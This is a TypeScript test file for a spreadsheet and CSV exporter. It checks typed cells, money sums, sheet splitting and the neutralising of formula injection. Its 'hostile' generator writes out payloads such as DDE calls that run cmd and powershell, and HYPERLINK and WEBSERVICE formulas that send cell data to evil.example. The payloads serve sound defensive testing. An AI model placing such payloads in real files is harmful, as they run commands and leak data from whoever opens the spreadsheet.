import { read } from 'xlsx';
import { formulas, planOf, readBack, write } from '../../../tests/support/sheetFiles';
import type { CellKind, CellValue } from '../../lib/sheet/sheetPlan';

const kinds: Record<string, CellKind> = {
  Имя: 'text',
  ПИНФЛ: 'text',
  Сумма: 'money',
  Дата: 'day',
  Создан: 'dateTime',
  Счёт: 'number',
  Номер: 'figure',
};
const row: CellValue[] = ['Каримова', '00123456789012', '1250000.05', '2024-02-29', '2026-03-05 14:07:31', 12, 1.5];

describe('a spreadsheet', () => {
  it('holds typed cells', async () => {
    const { sheet } = readBack(await write(planOf(kinds), [[row]]));
    const cells = 'ABCDEFG'.split('').map((letters) => sheet(0)[`${letters}2`]);
    expect(cells.map(({ t, v, z }) => [t, v, z])).toEqual([
      ['s', 'Каримова', '@'],
      ['s', '00123456789012', '@'],
      ['n', 1_250_000.05, '#,##0.00'],
      ['n', 45_351, 'dd\\.mm\\.yyyy'],
      ['n', 46_086 + (14 * 3600 + 7 * 60 + 31) / 86_400, 'dd\\.mm\\.yyyy\\ hh:mm:ss'],
      ['n', 12, '#,##0'],
      ['n', 1.5, 'General'],
    ]);
    expect(cells.slice(3, 5).map(({ w }) => w)).toEqual(['29.02.2024', '05.03.2026 14:07:31']);
  });

  it('has a bold frozen heading with arrows, and columns as wide as what is in them', async () => {
    const { sheet, part, book } = readBack(await write(planOf(kinds), [[row, row]]));
    const text = part('xl/worksheets/sheet1.xml');
    expect(text).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>');
    expect(text).toMatch(/<c r="A1" s="1"/);
    expect(part('xl/styles.xml')).toMatch(/<cellXfs count="10"><xf [^>]*\/><xf numFmtId="49" fontId="1"/);
    // The line of sums stays out of what the arrows sort and filter.
    expect(sheet(0)['!autofilter']).toEqual({ ref: 'A1:G3' });
    expect(book.Workbook?.Names).toContainEqual(
      expect.objectContaining({ Name: '_xlnm._FilterDatabase', Ref: "'Инвесторы'!$A$1:$G$3" }),
    );
    expect(sheet(0)['!cols']?.map(({ width }) => width)).toEqual([9, 15, 22, 13, 22, 13, 13]);
  });

  it('adds up money with formulas of its own', async () => {
    const rows = ['0.10', '0.20', '-1000000.30', null, ''].map((amount) => ['a', '1', amount]);
    const file = readBack(await write(planOf({ Имя: 'text', ИНН: 'text', Сумма: 'money' }), [rows]));
    expect(formulas(file)).toEqual({ 'Инвесторы!C7': 'SUM(C2:C6)' });
    expect(file.sheet(0)['C7']).toMatchObject({ t: 'n', v: -1_000_000, z: '#,##0.00' });
    expect(file.sheet(0)['A7'].v).toBe('Итого');
  });

  it('ends with what the ledger comes to, what it holds itself, and what lies between', async () => {
    const kindsOfLedger = { Счёт: 'text', Дебет: 'money', Кредит: 'money', Остаток: 'money' } as const;
    const rows = [
      ['5110', '100.10', '0.05', '7.00'],
      ['6990', '200.20', null, '8.00'],
    ];
    const words = { inLedger: 'По главной книге', inFile: 'В файле', difference: 'Расхождение' };
    // A row of 0.01 has not come; nobody says what the balances add up to.
    const file = await write(planOf(kindsOfLedger), [rows], [], { sums: [null, '300.31', '0.05', null], words });
    const { sheet } = readBack(file);
    const lines = [5, 6, 7].map((line) =>
      ['A', 'B', 'C', 'D'].map((letter) => sheet(0)[`${letter}${line}`]?.v as unknown),
    );
    expect(lines).toEqual([
      ['По главной книге', 300.31, 0.05, undefined],
      ['В файле', 300.3, 0.05, undefined],
      ['Расхождение', 0.01, 0, undefined],
    ]);
  });

  it('keeps every amount exact: a number up to 15 digits, a text beyond', async () => {
    const amounts = ['9999999999999.99', '-9999999999999.98', '1234567890123.45', '0.01', '10000000000000.01'];
    const file = readBack(
      await write(planOf({ Сумма: 'money', Другая: 'money' }), [amounts.map((one) => [one, '0.01'])]),
    );
    const cells = amounts.map((_, at) => file.sheet(0)[`A${at + 2}`]);
    expect(cells.map(({ t }) => t)).toEqual(['n', 'n', 'n', 'n', 's']);
    cells.slice(0, 4).forEach(({ v }, at) => expect((v as number).toFixed(2)).toBe(amounts[at]));
    expect(cells[4].v).toBe('10000000000000.01');
    // A formula would leave the text out, so the sum is ours.
    expect(file.sheet(0)['A7']).toMatchObject({ t: 's', v: '11234567890123,48' });
    expect(formulas(file)).toEqual({ 'Инвесторы!B7': 'SUM(B2:B6)' });
    expect(JSON.stringify(file.sheet(1))).toContain('Текстом');
  });

  it('leaves masked and senseless values as they are', async () => {
    const values = ['**.**.1990', '2023-02-29', '1 000,00', '12', 'NaN'];
    const file = readBack(
      await write(planOf({ Дата: 'day', Время: 'dateTime', Сумма: 'money', Счёт: 'number' }), [
        values.map((value) => [value, value, value, value]),
      ]),
    );
    values.forEach((value, at) => {
      for (const letters of 'ABCD') expect(file.sheet(0)[`${letters}${at + 2}`]).toMatchObject({ t: 's', v: value });
    });
  });

  it('says on the second sheet what the rows are', async () => {
    const file = readBack(
      await write(
        planOf(kinds),
        [[row]],
        [
          { label: 'Статус', value: 'Активный, Новый', kind: 'text' },
          { label: 'Строк', value: 1, kind: 'number' },
          { label: 'Время', value: '2026-11-20 00:00:01', kind: 'dateTime' },
          { label: 'Поиск', value: '=1+1', kind: 'text' },
        ],
      ),
    );
    expect(file.book.SheetNames).toEqual(['Инвесторы', 'Фильтры']);
    const cells = [1, 2, 3, 4].map((line) => [file.sheet(1)[`A${line}`].v, file.sheet(1)[`B${line}`].w]);
    expect(cells).toEqual([
      ['Статус', 'Активный, Новый'],
      ['Строк', '1'],
      ['Время', '20.11.2026 00:00:01'],
      ['Поиск', '=1+1'],
    ]);
  });

  it('goes on over the next sheets when one is full, with the sums on the last', async () => {
    const plan = planOf({ Имя: 'text', Сумма: 'money' }, { lines: 5, name: "O'z" });
    const rows = Array.from({ length: 8 }, (_, at) => [`№ ${at + 1}`, `${at + 1}.00`]);
    const file = readBack(await write(plan, [rows.slice(0, 2), rows.slice(2, 7), rows.slice(7)]));
    expect(file.book.SheetNames).toEqual(["O'z", "O'z (2)", "O'z (3)", 'Фильтры']);
    const names = [0, 1, 2].map((at) => [2, 3, 4, 5].map((line) => file.sheet(at)[`A${line}`]?.v as unknown));
    expect(names).toEqual([
      ['№ 1', '№ 2', '№ 3', undefined],
      ['№ 4', '№ 5', '№ 6', undefined],
      ['№ 7', '№ 8', 'Итого', undefined],
    ]);
    expect([0, 1, 2].map((at) => file.sheet(at)['A1'].v as unknown)).toEqual(['Имя', 'Имя', 'Имя']);
    expect(formulas(file)).toEqual({ "O'z (3)!B4": "SUM('O''z'!B2:B4,'O''z (2)'!B2:B4,B2:B3)" });
    expect(file.sheet(2)['B4'].v).toBe(36);
    expect(JSON.stringify(file.sheet(3))).toContain('На следующих');
  });

  it('cuts a text that no cell can hold, and says so', async () => {
    const file = readBack(await write(planOf({ Текст: 'text' }), [[['я'.repeat(40_000)]]]));
    const { v } = file.sheet(0)['A2'] as { v: string };
    expect(v).toHaveLength(32_767);
    expect(v.endsWith('… [обрезано]')).toBe(true);
    expect(JSON.stringify(file.sheet(1))).toContain('Обрезаны');
  });

  it('takes any text for text', async () => {
    const texts = [
      ' a ',
      'a\nb',
      'a\r\nb',
      '\u0000\u0001x\u001f',
      '_x0041_',
      '<a>&amp;"',
      '\uD800',
      '😀',
      "'=1",
      '\uFFFE',
    ];
    const file = readBack(await write(planOf({ Текст: 'text' }), [texts.map((text) => [text])]));
    const read = texts.map((_, at) => file.sheet(0)[`A${at + 2}`]?.v as unknown);
    expect(read).toEqual([' a ', 'a\nb', 'a\nb', 'x', '_x0041_', '<a>&amp;"', '\uFFFD', '😀', "'=1", '']);
  });

  it('is a whole file without a single row', async () => {
    const file = readBack(await write(planOf(kinds), []));
    expect(file.sheet(0)['!ref']).toBe('A1:G1');
    expect(formulas(file)).toEqual({});
  });
});

/** A thousand ways to have a spreadsheet run something. */
function hostile(): string[] {
  const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', "'=", '"=', '\u0000=', '\uFEFF=', '＝', ';=', ',='];
  const bodies = [
    '1+1',
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example?x="&A1,"click")',
    'IMPORTXML("https://evil.example","//a")',
    'WEBSERVICE("https://evil.example")',
    'DDE("cmd","/C calc","x")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    '<f>1+1</f>',
    '</t></is></c><c r="A2"><f>1+1</f></c>',
    '"&A1&"',
    '";=1+1;"',
    "2+5+cmd|' /C powershell'!A0\n=1+1",
  ];
  const list = starts.flatMap((start) => bodies.map((body) => start + body));
  return Array.from({ length: 1_000 }, (_, at) => (list[at % list.length] ?? '') + (at < list.length ? '' : `#${at}`));
}

describe('a thousand hostile texts', () => {
  const payloads = hostile();

  it('are never a formula in a spreadsheet, whatever the column', async () => {
    const columns: Record<string, CellKind> = {
      ...kinds,
      ...Object.fromEntries(payloads.slice(0, 20).map((payload) => [payload, 'text'])),
    };
    const width = Object.keys(columns).length;
    const rows = payloads.map((payload) => Array.from({ length: width }, () => payload));
    const facts = payloads
      .slice(0, 50)
      .map((payload) => ({ label: payload, value: payload, kind: 'dateTime' as const }));
    const file = readBack(await write(planOf(columns, { name: '=1+1' }), [rows], facts));
    // The one formula is the sum of the column of amounts, and all that it adds up is text.
    expect(formulas(file)).toEqual({ '=1+1!C1002': 'SUM(C2:C1001)' });
    expect(file.sheet(0)['C1002'].v).toBe(0);
    for (let line = 1; line <= 1_001; line++) expect(file.sheet(0)[`A${line}`].t).toBe('s');
    expect(file.part('xl/worksheets/sheet1.xml').match(/<f>/g)).toHaveLength(1);
    expect(file.part('xl/worksheets/sheet2.xml')).not.toContain('<f>');
  });

  it.each([';', ','] as const)('are harmless in a csv file separated by %s', async (separator) => {
    const plan = planOf({ Имя: 'text', Сумма: 'money' }, { format: 'csv', separator });
    const bytes = await write(plan, [payloads.map((payload) => [payload, payload])]);
    const book = read(bytes, { type: 'array', raw: true, FS: separator });
    const sheet = book.Sheets[book.SheetNames[0] ?? ''] ?? {};
    const cells = Object.entries(sheet).filter(([place]) => !place.startsWith('!'));
    expect(cells).toHaveLength(2 * 1_001);
    for (const [, cell] of cells) {
      expect((cell as { f?: unknown }).f).toBeUndefined();
      expect(String((cell as { v: unknown }).v)).not.toMatch(/^[=+\-@\t\r\n]/);
    }
  });
});

describe('a csv file', () => {
  const text = async (change: Parameters<typeof planOf>[1], rows: CellValue[][]) =>
    new TextDecoder('utf-8', { ignoreBOM: true }).decode(
      await write(planOf(kinds, { format: 'csv', ...change }), [rows]),
    );

  it('has a mark of its encoding, line ends of Windows, and the separator of its language', async () => {
    expect(await text({}, [row])).toBe(
      '\uFEFFИмя;ПИНФЛ;Сумма;Дата;Создан;Счёт;Номер\r\nКаримова;00123456789012;1250000,05;29.02.2024;05.03.2026 14:07:31;12;1,5\r\n',
    );
    expect(await text({ separator: ',', point: '.' }, [row])).toContain(
      '\r\nКаримова,00123456789012,1250000.05,29.02.2024,05.03.2026 14:07:31,12,1.5\r\n',
    );
  });

  it('leaves a telephone as it is, and nothing else that begins with a plus', async () => {
    const [, line] = (await text({}, [['+998901234567', '+1+1', null, null, null, null, '+']])).split('\r\n');
    expect(line).toBe("+998901234567;'+1+1;;;;;'+");
  });

  it('quotes what would be taken for two values, and leaves true negative amounts alone', async () => {
    const lines = (
      await text({}, [
        ['a;b"c', 'd,e', '-5.00', null, '', -3, 'x\r\ny'],
        ['-5', '+998 90 *** ** 67', '-x', null, null, null, '@a'],
      ])
    ).split('\r\n');
    expect(lines[1]).toBe('"a;b""c";"d,e";-5,00;;;-3;"x\ny"');
    expect(lines[2]).toBe("'-5;'+998 90 *** ** 67;'-x;;;;'@a");
  });
});
